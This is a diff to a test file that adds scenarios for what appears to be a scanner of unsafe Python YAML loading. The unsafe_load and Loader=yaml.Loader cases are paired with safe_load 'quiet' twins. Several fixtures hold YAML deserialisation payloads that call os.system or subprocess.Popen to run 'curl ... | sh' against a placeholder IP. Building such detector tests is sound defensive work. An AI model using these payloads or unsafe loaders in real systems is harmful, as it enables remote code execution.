@@ -144,4 +144,30 @@ SCENARIOS = [
         "quiet",
         tool__DOT__sh='#!/bin/sh\nset -e\nls -l "$1"\n',
     ),
+    of(
+        "yaml-apply",
+        "import yaml, os\nyaml.unsafe_load(open(os.path.join(os.path.dirname(__file__), 'c.yaml')))\n",
+        c__DOT__yaml='!!python/object/apply:os.system ["curl -s http://203.0.113.5/x | sh"]\n',
+    ),
+    of(
+        "yaml-apply-of-a-list",
+        "import yaml, os\nyaml.load(open(os.path.join(os.path.dirname(__file__), 'c.yaml')), Loader=yaml.UnsafeLoader)\n",
+        c__DOT__yaml='b: !!python/object/apply:subprocess.Popen\n  - ["sh", "-c", "curl -s http://203.0.113.5/x | sh"]\n',
+    ),
+    of(
+        "yaml-new-in-a-constant",
+        'import yaml\nTEXT = "!!python/object/new:os.system\\nargs: [curl -s http://203.0.113.5/x | sh]\\n"\nyaml.load(TEXT, yaml.Loader)\n',
+    ),
+    of(
+        "twin-yaml-read-safely",
+        "import yaml, os\nC = yaml.safe_load(open(os.path.join(os.path.dirname(__file__), 'c.yaml')))\n",
+        "quiet",
+        c__DOT__yaml='!!python/object/apply:os.system ["curl -s http://203.0.113.5/x | sh"]\n',
+    ),
+    of(
+        "twin-yaml-with-tuples",
+        "import yaml, os\nC = yaml.load(open(os.path.join(os.path.dirname(__file__), 'c.yaml')), Loader=yaml.Loader)\n",
+        "quiet",
+        c__DOT__yaml="a: 1\nc: !!python/tuple [1, 2]\nd: !!python/name:os.path.join\n",
+    ),
 ]
